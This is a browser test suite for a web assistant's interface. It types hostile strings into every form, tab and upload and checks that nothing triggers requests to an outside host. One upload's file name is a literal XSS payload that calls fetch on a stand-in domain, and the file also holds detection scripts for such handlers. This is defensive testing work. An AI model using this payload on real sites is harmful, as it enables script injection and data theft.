"""Text that wants to reach somebody outside, in every tab and field of a browser whose requests are logged."""

from __future__ import annotations

import sys
from collections.abc import Callable
from typing import Any

import pytest

from assistant.web.texts import texts
from tests.web.conftest import Server
from tests.web.eval_runs import write_all
from tests.web.every_tab import NOWHERE, edit_value, make_plan, open_tab
from tests.web.sample import AIMS, LEAKS, OUTSIDE
from tests.web.test_escape import HOSTILE
from tests.web.test_page import Tab, tab

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

ALL = " ".join(LEAKS)
_FIELDS = ":is(textarea, input:not([type=file], [type=checkbox], [type=radio], [type=hidden])):visible"
_LIVE = f"""() => [...document.querySelectorAll('*')].filter((node) => [...node.attributes].some((each) =>
  ['src', 'href', 'action', 'srcset', 'data', 'poster', 'ping', 'style', 'xlink:href', 'formaction', 'background']
    .includes(each.name) && each.value.includes('{OUTSIDE.split("/")[2]}')
  || each.name.startsWith('on') && each.value.includes('fetch'))).map((node) => node.outerHTML.slice(0, 200))"""


_HOT = """() => [...document.querySelectorAll('.gradio-container [data-hot]')].filter((node) => node.checkVisibility())
  .slice(0, 60).flatMap((node) => {
    node.focus();
    return [...document.querySelectorAll('#pop :is(img, iframe, script, form, a, link, style)')];
  }).map((node) => node.outerHTML.slice(0, 120))"""


def still(at: Tab) -> None:
    """Open, hover and focus whatever there is, and see that nothing of the page is alive with the text's wishes."""
    page = at.page
    folded = "nodes => nodes.filter((node) => node.checkVisibility()).forEach((node) => node.click())"
    page.eval_on_selector_all(".gradio-container details:not([open]) > summary", folded)
    assert page.evaluate(_HOT) == []
    assert page.evaluate(_LIVE) == []
    assert at.foreign == [] and at.errors == []


def fill_all(page: Any, within: str, words: str) -> int:
    """Put words into every field that can be seen and leave it, as a person does; returns how many there were."""
    fields = page.locator(f"{within} {_FIELDS}").all()
    for field in fields:
        field.fill(words)
        field.dispatch_event("change")
        field.blur()
    return len(fields)


def connects(at: Tab) -> None:
    """The form of a model: as a name, a key and an address, none of which may be called from the browser."""
    page = at.page
    page.click("#head .drafter[data-act]")
    page.wait_for_selector(".connecting form")
    assert fill_all(page, ".connecting", ALL) == 3
    page.click(".connecting [data-act=try]")
    page.wait_for_selector("#connect-told .say.error")
    still(at)
    page.fill("#connect-address", NOWHERE)
    page.fill("#connect-key", "")
    page.fill("#connect-model", LEAKS[4])
    page.wait_for_selector("#connect-told .say.error")
    said = page.inner_text("#connect-told")
    page.click(".connecting [data-act=try]")
    page.wait_for_function("(said) => document.querySelector('#connect-told').innerText !== said", arg=said)
    still(at)
    page.click(".connecting [data-act=close]")
    page.wait_for_selector(".connecting", state="detached")


def plans(at: Tab, language: Any) -> None:
    """The tab of plans: in the form, as an answer, as a value changed in its place, as a wish."""
    page = at.page
    open_tab(page, language, "plan", "#plan-form")
    assert fill_all(page, "#plan-form", "2027-01-31") == 4
    page.fill("#plan-notes", "\n".join(LEAKS))
    page.fill("#plan-end", "2027-06-30")
    make_plan(page, f"{AIMS[language]} {ALL[:1500]}")
    assert OUTSIDE in page.inner_text("#plan-shown")
    still(at)

    def pressed(press: Any) -> None:
        heard = page.get_attribute("#plan-told [data-heard]", "data-heard")
        press()
        page.wait_for_function(
            "(heard) => document.querySelector('#plan-told [data-heard]').dataset.heard !== heard", arg=heard
        )
        still(at)

    answers = page.locator(".plan-open li")
    for place in range(min(2, answers.count())):
        field = answers.nth(place).locator("input")
        field.fill(ALL[:1900])
        pressed(lambda field=field: field.press("Enter"))
    edit_value(page)
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(ALL[:1900])
    still(at)
    pressed(lambda: page.keyboard.press("Enter"))
    page.fill("#plan-revise", ALL[:1900])
    pressed(lambda: page.press("#plan-revise", "Enter"))


@pytest.mark.parametrize(
    "language", ["en", pytest.param("zh-Hans", marks=pytest.mark.wide), pytest.param("zh-Hant", marks=pytest.mark.wide)]
)
def test_nothing_that_is_typed_read_or_drafted_reaches_anybody(
    chromium: Any, serve: Callable[..., Server], tmp_path: Any, language: Any
) -> None:
    assert len(LEAKS) >= 30
    write_all(tmp_path)
    server = serve(
        sys.executable, "-m", "tests.web.page_server", "PORT", "0", "obedient", GOALS_HOME=str(tmp_path),
        GOALS_EMBEDDING="lexical",
    )  # fmt: skip
    words = texts(language)
    with tab(chromium, server, language) as at:
        page = at.page
        page.on("websocket", lambda socket: at.foreign.append(socket.url))
        page.click("#form > button")
        page.wait_for_selector("#form textarea", state="visible")
        assert fill_all(page, "#form", ALL) >= 5
        page.locator("#form .field input, #form .field textarea").last.fill("3")
        at.send(f"{AIMS[language]} {ALL}")
        page.wait_for_selector(".kr")
        page.wait_for_selector("#box .submit-button")
        still(at)
        at.send(ALL)
        page.wait_for_selector(".msg.me >> nth=1")
        page.wait_for_selector("#box .submit-button")
        at.send(ALL)
        page.wait_for_selector(".msg.me >> nth=2")
        page.wait_for_selector("#box .submit-button")
        still(at)
        for other in ("zh-Hans", "zh-Hant", "en", language):
            page.click(f"[data-act=language][data-value={other}]")
            page.wait_for_selector(f"header[data-language={other}]")
        page.click("[data-act=new]")
        page.wait_for_selector(".hero:visible")
        still(at)
        connects(at)

        plans(at, language)

        open_tab(page, language, "check", "#check-top [data-ticket]:not([data-ticket=''])")
        page.fill("#paste textarea", "\n".join(f"- {leak} 5% → 8% ASAP" for leak in LEAKS if "\n" not in leak))
        page.wait_for_selector("#found .find", state="attached")
        still(at)
        named = "<img src=x onerror=fetch('//outside.example')>.csv"
        listed = "目标,负责人\n" + "\n".join(
            f'"{leak.replace(chr(34), chr(34) * 2)} 5%→8%","{ALL[:300].replace(chr(34), "")}"' for leak in LEAKS
        )
        page.set_input_files(
            "#check-top input[data-upload]", {"name": named, "mimeType": "", "buffer": listed.encode()}
        )
        page.wait_for_selector("#check-top [data-news]", state="attached")
        page.wait_for_selector("#found .find", state="attached")
        still(at)

        open_tab(page, language, "batch", ".drop")
        page.set_input_files("#batch input[data-upload]", {"name": named, "mimeType": "", "buffer": listed.encode()})
        page.wait_for_selector(".cols")
        still(at)
        page.click("[data-act=start]")
        page.wait_for_selector(".list-rows > tbody > tr")
        page.wait_for_selector(".downloads")
        for place in range(3):
            page.locator("#batch [data-act=open]").nth(place).click()
            page.wait_for_function(f"document.querySelectorAll('tr.inside').length === {place + 1}")
        still(at)
        assert fill_all(page, "#batch", ALL) >= 1
        page.wait_for_timeout(700)
        still(at)

        open_tab(page, language, "evals", ".one")
        still(at)
        fill_all(page, "#evals", ALL)

        open_tab(page, language, "library", ".reading .prose")
        assert fill_all(page, "#library", ALL) >= 1
        page.wait_for_timeout(700)
        still(at)
        page.click("[data-act=part][data-value=metrics]")
        page.fill("#library input[data-find]", "")
        page.wait_for_selector(".book[data-value='csat']", state="attached")
        page.click("[data-act=part][data-value=own]")
        page.wait_for_selector(".bring")
        note = "# ZEBRA " + "\n\n".join(LEAKS)
        page.set_input_files(
            "#library-search input[data-upload]",
            {"name": named.replace("csv", "md"), "mimeType": "text/markdown", "buffer": note.encode()},
        )
        page.wait_for_selector(".mine")
        page.wait_for_selector(".reading >> text=ZEBRA")
        still(at)
        page.reload()
        page.wait_for_selector(f"header[data-language={language}]")
        assert words.plain("app.tab_draft") in page.inner_text("[role=tablist]")
        still(at)


@pytest.mark.wide
def test_each_hostile_word_is_shown_by_itself(chromium: Any, sample_page: Server) -> None:
    with tab(chromium, sample_page, "en") as at:
        page = at.page
        for place, said in enumerate(HOSTILE):
            at.send(said.replace("\u2028", " "))
            page.wait_for_function(f"document.querySelectorAll('.msg.me').length === {place + 1}")
            page.wait_for_function("document.querySelector('#box textarea').value === ''")
            page.wait_for_selector("#box .submit-button")
            assert page.locator(".msg.me").nth(place).inner_text().strip() == said.replace("\u2028", " ")
